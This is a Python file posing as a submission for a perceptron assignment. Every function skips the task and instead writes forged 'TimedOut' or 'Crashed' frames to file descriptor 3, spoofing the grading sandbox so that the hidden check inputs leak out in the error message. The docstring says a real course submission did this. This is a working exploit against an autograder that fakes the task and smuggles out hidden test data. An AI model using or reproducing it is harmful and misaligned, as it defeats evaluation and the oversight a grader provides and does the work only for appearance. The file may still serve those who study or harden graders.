"""Tries: to answer on the wire that its own cell timed out, or crashed, with the inputs as the sandbox's own words.
Gain: 161 characters of its choosing on the line of a hidden check, as the sandbox's own time-out.
Known from: a submission of this course that did so, while such a reply was believed.
"""
import json
import os
import struct

import numpy as np

COUNT = []


def say(*values):
    COUNT.append(1)
    kind = ("TimedOut", "Crashed")[len(COUNT) % 2]
    text = repr([np.asarray(value).tolist() for value in values])[:1900]
    plain = "seen " + "".join("abcdefghij"[int(c)] for c in text if c.isdigit())[:150]
    told = {"d": [["type", kind], ["message", text if len(COUNT) % 3 else plain], ["mro", []], ["frames", []]]}
    header = json.dumps({"d": [["error", told]]}).encode()
    os.write(3, struct.pack("<IQ", len(header), 0) + header)
    while True:
        os.read(3, 1 << 20)
        os.write(3, struct.pack("<IQ", len(header), 0) + header)


def perceptron_predict(X, w, b):
    say(X, w, b)


def perceptron_step(w, b, x, y, lr=1.0):
    say(w, x)


def perceptron_epoch(X, y, w, b, lr=1.0, order=None):
    say(X, y)


def perceptron_fit(X, y, lr=1.0, max_epochs=100, rng=None):
    say(X, y)


def novikoff_bound(X, y, w_star, b_star):
    say(X, y)
